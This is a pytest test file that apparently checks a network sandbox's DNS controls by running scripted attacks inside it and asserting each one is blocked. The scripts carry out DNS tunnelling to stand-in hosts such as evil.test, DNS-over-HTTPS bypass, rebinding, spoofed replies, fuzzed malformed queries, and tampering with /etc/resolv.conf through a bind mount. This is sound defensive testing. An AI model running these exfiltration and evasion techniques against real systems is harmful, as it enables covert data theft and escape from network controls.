"""Section E of the catalogue: nothing leaves by DNS, and what a lookup says is judged before it is dialled (INV-4).

`authority` plays the host's resolver and keeps every question: what a session wants to smuggle out would be in there.
"""

from __future__ import annotations

import struct
from typing import Any

import pytest

from tests.rig import ports
from tests.rig.inside import attack

pytestmark = pytest.mark.usefixtures("user_namespaces")


@pytest.mark.backend("namespaces", "broker")
@pytest.mark.attack(66)
@pytest.mark.attack(68)
@pytest.mark.attack(84)
@pytest.mark.ordinary_user
def test_66_68_84_no_question_about_a_denied_name_leaves(netsandbox: Any, authority: Any) -> None:
    """By any type, over UDP and TCP, to any server address: the same resolver answers, and it asks nobody."""
    authority.answer("*.evil.test", "192.0.2.1")
    script = """
types = {"A": 1, "NS": 2, "CNAME": 5, "SOA": 6, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33,
    "HTTPS": 65, "SVCB": 64, "ANY": 255, "AXFR": 252, "CAA": 257, "unknown": 65280}
servers = [("127.0.0.1", 53), ("192.0.2.53", 53), ("127.0.0.53", 53), ("10.0.0.1", 53), ("2001:db8::53", 53)]
out["answers"] = []
for server in servers:
    for tcp in (False, True):
        for name, number in types.items():
            data = b"%s.%s.evil.test" % (os.urandom(12).hex().encode(), name.encode())
            out["answers"].append(ask(data, number, server, tcp=tcp))
out["twin"] = [ask(b"allowed.test", server=server, tcp=tcp) for server in servers for tcp in (False, True)]
out["count"] = len(out["answers"])
"""
    options = ["--allow-domain", "allowed.test", "--upstream-dns", authority.address]
    tried = attack(netsandbox, options, script)
    assert all(answer is not None and answer[0] in (3, 4, 5) and not answer[1] for answer in tried.out["answers"])
    assert all(answer[0] == 0 and len(answer[1]) == 1 for answer in tried.out["twin"])
    assert authority.queries == []
    asked = [record for record in tried.run.events("dns", verdict="deny") if record["host"].endswith(".evil.test")]
    assert sum(record.get("count", 1) for record in asked) == tried.out["count"]


@pytest.mark.backend("namespaces", "broker")
@pytest.mark.attack(67)
@pytest.mark.attack(85)
def test_67_85_names_under_an_allowed_wildcard_carry_little(netsandbox: Any, canary: Any, authority: Any) -> None:
    server = canary.http(body=b"reached")
    authority.answer("*.wild.test", "127.0.0.1")
    script = """
import base64
def noise():
    return base64.b32encode(os.urandom(39)).decode().lower().rstrip("=").encode()
out["long"] = [ask(noise() + b".wild.test") for _ in range(300)]
out["long_connect"] = [reason(connect(noise() + b".wild.test", port)[1]) for _ in range(20)]
out["usual"] = [status(get(name + b".wild.test", port)) for name in (b"www", b"api-eu-west-1", b"cdn")]
out["many"] = [reason(connect(b"n%d.wild.test" % number, port)[1]) or "ok" for number in range(300)]
out["still"] = status(get(b"www.wild.test", port))
"""
    options = ["--allow-domain", f"*.wild.test:{server.port}", "--upstream-dns", authority.address]
    options += ["--allow-address", f"127.0.0.1:{server.port}"]
    tried = attack(netsandbox, options, script, arguments={"port": server.port})
    assert all(answer == [3, []] for answer in tried.out["long"])
    assert set(tried.out["long_connect"]) == {"tunnel-label"}
    assert tried.out["usual"] == [200, 200, 200]
    assert tried.out["many"].count("ok") <= 100
    assert tried.out["many"][-1] == "tunnel-rate"
    assert tried.out["still"] == 200  # names that are known already are not new
    distinct = set(authority.names)
    assert len(distinct) <= 100
    assert max(map(len, distinct)) < 40


@pytest.mark.backend("namespaces", "broker")
@pytest.mark.attack(69)
def test_69_known_resolvers_are_denied_whatever_allows_them(netsandbox: Any, authority: Any) -> None:
    authority.answer("dns.google", "127.0.0.1")
    script = """
out["rule"] = [reason(connect(b"dns.google", 443)[1]), reason(get(b"dns.google", 80)), ask(b"dns.google")]
"""
    for mode in (["--online"], ["--allow-domain", "dns.google"], ["--allow-domain", "**.dns.google"]):
        tried = attack(netsandbox, [*mode, "--upstream-dns", authority.address], script)
        assert tried.out["rule"] == ["doh-endpoint", "doh-endpoint", [3, []]]
    assert authority.queries == []


@pytest.mark.backend("namespaces", "broker")
@pytest.mark.attack(70)
@pytest.mark.attack(71)
def test_70_71_there_is_no_other_resolver(netsandbox: Any, authority: Any) -> None:
    script = """
def datagram(target):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(0.1)
        sock.sendto(question(b"evil.test"), target)
        return refused(sock.recv, 512)
targets = [("192.0.2.1", 853), ("224.0.0.251", 5353), ("224.0.0.252", 5355), ("192.0.2.1", 137)]
out["datagrams"] = [datagram(target) for target in targets]
out["tls"] = [say(b"\\x16\\x03\\x01", ("192.0.2.1", 853)), reason(connect(b"allowed.test", 853)[1])]
paths = ("/run/systemd/resolve/io.systemd.Resolve", "/run/nscd/socket", "/run/dbus/system_bus_socket")
out["unix"] = [refused(socket.socket(socket.AF_UNIX).connect, path) for path in paths]
out["others"] = [ask(b"evil.test", server=(server, 53)) for server in ("127.0.0.53", "127.0.0.54", "127.1.2.3")]
try:
    out["getaddrinfo"] = socket.getaddrinfo("evil.test", 80)
except OSError as error:
    out["getaddrinfo"] = "refused"
out["twin"] = socket.getaddrinfo("allowed.test", 80, socket.AF_INET)[0][4][0]
"""
    tried = attack(netsandbox, ["--allow-domain", "allowed.test", "--upstream-dns", authority.address], script)
    assert None not in tried.out["datagrams"]
    assert tried.out["tls"] == ["", "port-not-allowed"]
    assert set(tried.out["unix"]) <= {"EACCES", "ENOENT", "ECONNREFUSED"}
    assert tried.out["others"] == [[3, []]] * 3
    assert tried.out["getaddrinfo"] == "refused"
    assert tried.out["twin"].startswith("198.18.")
    assert authority.queries == []
    assert {record["port"] for record in tried.run.events("udp")} == {853, 5353, 5355, 137}


@pytest.mark.backend("namespaces", "broker")
@pytest.mark.attack(73)
def test_73_a_name_that_turns_round_is_judged_each_time_by_what_is_dialled(
    netsandbox: Any, canary: Any, authority: Any
) -> None:
    port = ports.free_port()
    good, bad = canary.http("127.0.0.2", port, body=b"reached"), canary.http("127.0.0.1", port, body=b"stolen")
    authority.rebind("turn.test", ["127.0.0.2"], ["127.0.0.1"])
    authority.rebind("both.test", ["127.0.0.1", "127.0.0.2"])
    script = """
out["first"] = get(b"turn.test", port)
out["both"] = get(b"both.test", port)
time.sleep(1.3)
out["second"] = [reason(get(b"turn.test", port)), reason(connect(b"turn.test", port)[1]), socks(b"turn.test", port)]
where = address(b"turn.test")
out["wire"] = say(b"GET / HTTP/1.1\\r\\nHost: turn.test\\r\\n\\r\\n", (where, port))
"""
    options = ["--allow-domain", f"turn.test:{good.port}", "--allow-domain", f"both.test:{good.port}"]
    options += ["--allow-address", f"127.0.0.2:{good.port}", "--upstream-dns", authority.address]
    tried = attack(netsandbox, options, script, arguments={"port": good.port})
    assert tried.out["first"].endswith("reached")
    assert tried.out["both"].endswith("reached")  # of two addresses the one that passed is dialled
    assert tried.out["second"][:2] == ["address-guard", "address-guard"]
    assert tried.out["second"][2] not in (0, -1)
    assert tried.out["wire"] == ""
    assert (good.accepts, bad.accepts) == (2, 0)
    assert {record["address"] for record in tried.allowed()} == {"127.0.0.2"}
    assert {record["address"] for record in tried.denied()} == {"127.0.0.1"}


def truncated(query: bytes) -> list[bytes]:
    return [query[:2] + b"\x81\x80" + query[4:][: len(query) // 2]]


def nonsense(query: bytes) -> list[bytes]:
    return [query[:2] + b"\x81\x80" + b"\xff" * 40]


@pytest.mark.backend("namespaces", "broker")
@pytest.mark.attack(75)
def test_75_a_lookup_that_fails_is_a_refusal(netsandbox: Any, canary: Any, authority: Any) -> None:
    server = canary.http(body=b"reached")
    authority.fail("servfail.test")
    authority.fail("refused.test", "REFUSED")
    authority.records("empty.test", ("TXT", '"no address"'))
    authority.silence("silent.test")
    authority.reply("nonsense.test", nonsense)
    authority.reply("cut.test", truncated)
    authority.truncate("long.test", "127.0.0.1")
    names = ["servfail", "refused", "empty", "absent", "silent", "nonsense", "cut"]
    script = """
def tried(name):
    results[name] = [status(get(name.encode() + b".test", port)), socks(name.encode() + b".test", port)]
results = {}
threads = [threading.Thread(target=tried, args=(name,)) for name in names]
[thread.start() for thread in threads]
[thread.join() for thread in threads]
out["results"], out["twin"] = results, status(get(b"long.test", port))
"""
    options = [word for name in [*names, "long"] for word in ("--allow-domain", f"{name}.test:{server.port}")]
    options += ["--allow-address", f"127.0.0.1:{server.port}", "--upstream-dns", authority.address]
    tried = attack(netsandbox, options, script, arguments={"port": server.port, "names": names}, timeout=40)
    for name, (code, reply) in tried.out["results"].items():
        assert code in (0, 502), name
        assert reply != 0, name
    assert tried.out["twin"] == 200  # a truncated answer is asked for again over TCP
    assert server.accepts == 1
    assert {record["reason"] for record in tried.denied()} == {"lookup-failed"}


@pytest.mark.backend("namespaces", "broker")
@pytest.mark.attack(76)
def test_76_every_link_of_a_chain_of_aliases_is_judged(netsandbox: Any, canary: Any, authority: Any) -> None:
    server = canary.http(body=b"reached")
    authority.alias("plain.test", "elsewhere.test")
    authority.answer("elsewhere.test", "127.0.0.1")
    authority.alias("denied-end.test", "evil.test")
    authority.alias("denied-middle.test", "middle.evil.test")
    authority.alias("middle.evil.test", "elsewhere.test")
    authority.answer("evil.test", "127.0.0.1")
    authority.alias("inward.test", "inside.test")
    authority.answer("inside.test", "127.0.0.3")
    authority.alias("loop.test", "loop2.test")
    authority.alias("loop2.test", "loop.test")
    for number in range(30):
        authority.alias(f"deep{number}.test", f"deep{number + 1}.test")
    authority.answer("deep30.test", "127.0.0.1")
    names = ["plain", "denied-end", "denied-middle", "inward", "loop", "deep0"]
    script = """
out["codes"] = {name: [status(page), reason(page)] for name in names for page in [get(name.encode() + b".test", port)]}
"""
    options = [word for name in names for word in ("--allow-domain", f"{name}.test:{server.port}")]
    options += ["--deny-domain", "**.evil.test", "--allow-address", f"127.0.0.1:{server.port}"]
    options += ["--upstream-dns", authority.address]
    tried = attack(netsandbox, options, script, arguments={"port": server.port, "names": names})
    codes = tried.out["codes"]
    assert codes["plain"] == [200, ""]
    assert codes["denied-end"] == codes["denied-middle"] == [403, "deny-rule"]
    assert codes["inward"] == [403, "address-guard"]
    assert codes["loop"] == codes["deep0"] == [502, "lookup-failed"]
    assert server.accepts == 1


@pytest.mark.backend("namespaces", "broker")
@pytest.mark.attack(77)
def test_77_localhost_is_the_sessions_own(netsandbox: Any, canary: Any, authority: Any) -> None:
    server = canary.http(body=b"stolen")
    authority.answer("host.docker.internal", "127.0.0.1")
    script = """
names = [b"localhost", b"x.localhost", b"localhost.", b"ip6-localhost", b"localhost.localdomain"]
out["resolved"] = [ask(name) for name in names]
out["reached"] = [status(get(name, port)) for name in [*names, b"host.docker.internal", b"host.containers.internal"]]
out["direct"] = refused(dial, ("127.0.0.1", port))
own = socket.create_server(("127.0.0.1", port))
out["own"] = refused(dial, ("localhost", port))
"""
    tried = attack(
        netsandbox, ["--online", "--upstream-dns", authority.address], script, arguments={"port": server.port}
    )
    assert tried.out["resolved"] == [[0, ["127.0.0.1"]]] * 5
    assert 200 not in tried.out["reached"]
    assert tried.out["direct"] == "ECONNREFUSED"
    assert tried.out["own"] is None
    assert server.accepts == 0


@pytest.mark.backend("namespaces", "broker")
@pytest.mark.attack(78)
def test_78_malformed_questions_are_answered_with_an_error_or_not_at_all(netsandbox: Any, authority: Any) -> None:
    script = r"""
import random
usual = question(b"evil.test")
def header(flags=0x0100, counts=(1, 0, 0, 0)):
    return struct.pack("!6H", 7, flags, *counts)
tail = struct.pack("!2H", 1, 1)
odd = [b"", b"\0", usual[:11], usual[:12], usual[:-1], header(counts=(0, 0, 0, 0)),
    header(counts=(2, 0, 0, 0)) + usual[12:] * 2,
    header(counts=(65535, 0, 0, 0)) + usual[12:], header(0x2800) + usual[12:], header(0x2000) + usual[12:],
    header(0x8180) + usual[12:], header() + b"\xc0\x0c" + tail, header() + b"\x03abc\xc0\x0c" + tail,
    header() + b"\x40" + b"a" * 64 + b"\0" + tail, header() + b"\x3f" + b"a" * 5,
    header() + b"\x04a\0bc\x04test\0" + tail,
    header() + b"\x05a.b\r\n\x04test\0" + tail, header() + labels(b"evil.test") + struct.pack("!2H", 1, 3),
    header() + labels(b"evil.test") + struct.pack("!2H", 1, 255), header() + (b"\x01a" * 200) + b"\0" + tail,
    header(counts=(1, 0, 0, 1)) + usual[12:] + b"\0\0\x29\0\0\0\0\0\0\0\0",
    header(counts=(1, 0, 0, 1)) + usual[12:] + b"\0\0\x29\xff\xff\0\0\0\0\xff\xff"]
random.seed(7)
for _ in range(2000):
    data = bytearray(usual)
    for _ in range(random.randint(1, 6)):
        data[random.randrange(len(data))] = random.randrange(256)
    odd.append(bytes(data))
codes = set()
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
    sock.settimeout(0.02)
    for data in odd:
        sock.sendto(data, ("127.0.0.1", 53))
        try:
            reply = sock.recv(4096)
            codes.add((reply[3] & 15, struct.unpack("!H", reply[6:8])[0] > 0))
        except OSError:
            pass
out["codes"] = sorted(codes)
with dial(("127.0.0.1", 53)) as sock:
    sock.sendall(b"\xff\xff" + b"\0" * 10)
out["twin"] = [ask(b"allowed.test"), ask(b"allowed.test", tcp=True)]
"""
    tried = attack(netsandbox, ["--allow-domain", "allowed.test", "--upstream-dns", authority.address], script)
    assert [code for code, answered in tried.out["codes"] if answered] == []
    assert all(answer[0] == 0 and answer[1] for answer in tried.out["twin"])
    assert authority.queries == []


@pytest.mark.backend("namespaces", "broker")
@pytest.mark.attack(79)
def test_79_only_the_reply_to_our_question_counts(netsandbox: Any, canary: Any, authority: Any) -> None:
    import dnslib  # type: ignore[import-untyped]

    port = ports.free_port()
    good, bad = canary.http("127.0.0.2", port, body=b"reached"), canary.http("127.0.0.1", port, body=b"stolen")

    def spoof(query: bytes) -> list[bytes]:
        asked = dnslib.DNSRecord.parse(query)
        kind = dnslib.QTYPE.get(asked.q.qtype)

        def answer(address: str, name: str = "spoof.test") -> bytes:
            reply = asked.reply()
            if kind == "A":
                reply.add_answer(*dnslib.RR.fromZone(f"{name} 60 A {address}"))
            return bytes(reply.pack())

        (number,) = struct.unpack("!H", query[:2])
        wrong_id = struct.pack("!H", number ^ 1) + answer("127.0.0.1")[2:]
        other = dnslib.DNSRecord.question("other.test")
        other.header.id = number
        wrong_question = other.reply()
        wrong_question.add_answer(*dnslib.RR.fromZone("other.test 60 A 127.0.0.1"))
        not_a_reply = answer("127.0.0.1")[:2] + b"\x01\x00" + answer("127.0.0.1")[4:]
        return [wrong_id, bytes(wrong_question.pack()), not_a_reply, answer("127.0.0.2")]

    authority.reply("spoof.test", spoof)
    options = ["--allow-domain", f"spoof.test:{good.port}", "--upstream-dns", authority.address]
    options += ["--allow-address", f"127.0.0.0/24:{good.port}"]
    tried = attack(netsandbox, options, 'out["page"] = get(b"spoof.test", port)', arguments={"port": good.port})
    assert tried.out["page"].endswith("reached")
    assert bad.accepts == 0


@pytest.mark.backend("namespaces", "broker")
@pytest.mark.attack(81)
def test_81_what_one_session_resolved_is_no_answer_for_another(netsandbox: Any, authority: Any) -> None:
    script = 'out["answer"] = ask(b"x.test")'
    first = attack(netsandbox, ["--allow-domain", "x.test", "--upstream-dns", authority.address], script)
    second = attack(netsandbox, ["--allow-domain", "y.test", "--upstream-dns", authority.address], script)
    assert first.out["answer"][0] == 0
    assert second.out["answer"] == [3, []]


@pytest.mark.attack(82)
@pytest.mark.attack(83)
def test_82_83_the_resolver_configuration_is_ours_and_cannot_be_changed(netsandbox: Any, authority: Any) -> None:
    script = """
out["resolv"], out["hosts"] = open("/etc/resolv.conf").read(), open("/etc/hosts").read()
def write(path):
    open(path, "a").close()
out["write"] = [refused(write, path) for path in ("/etc/resolv.conf", "/etc/hosts")]
out["replace"] = []
for path in ("/etc/resolv.conf", "/etc/hosts"):
    moved = refused(os.rename, path, path + ".old")
    out["replace"].append([refused(os.unlink, path), moved, refused(os.truncate, path, 0)])
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
out["mount"] = [libc.mount(b"/etc/passwd", b"/etc/resolv.conf", None, 4096, None), libc.umount2(b"/etc/resolv.conf", 2)]
os.environ["LOCALDOMAIN"], os.environ["RES_OPTIONS"] = "evil.test", "ndots:15"
os.environ["HOSTALIASES"] = "/tmp/aliases"
def lookup(name):
    try:
        return socket.getaddrinfo(name, 80, socket.AF_INET)[0][4][0]
    except OSError:
        return None
out["bare"] = lookup("allowed")
out["twin"] = lookup("allowed.test")
out["search"] = lookup("sub.allowed")
"""
    tried = attack(netsandbox, ["--allow-domain", "allowed.test", "--upstream-dns", authority.address], script)
    lines = [line.split()[0] for line in tried.out["resolv"].splitlines() if line.strip() and line[0] != "#"]
    assert set(lines) <= {"nameserver", "options"}
    assert "search" not in tried.out["resolv"]
    assert None not in tried.out["write"]
    assert all(None not in tries for tries in tried.out["replace"])
    assert tried.out["mount"] == [-1, -1]
    assert (tried.out["bare"], tried.out["search"]) == (None, None)
    assert tried.out["twin"].startswith("198.18.")
    assert authority.queries == []


@pytest.mark.backend("namespaces", "broker")
def test_types_that_the_user_named_are_forwarded_for_allowed_names_only(netsandbox: Any, authority: Any) -> None:
    authority.records("allowed.test", ("TXT", '"note"'))
    authority.records("evil.test", ("TXT", '"note"'))
    script = """
out["txt"] = [ask(b"allowed.test", 16)[0], ask(b"evil.test", 16)[0], ask(b"allowed.test", 15)[0]]
"""
    options = ["--allow-domain", "allowed.test", "--allow-query-type", "TXT", "--upstream-dns", authority.address]
    tried = attack(netsandbox, options, script)
    assert tried.out["txt"] == [0, 3, 5]
    assert authority.names == ["allowed.test"]
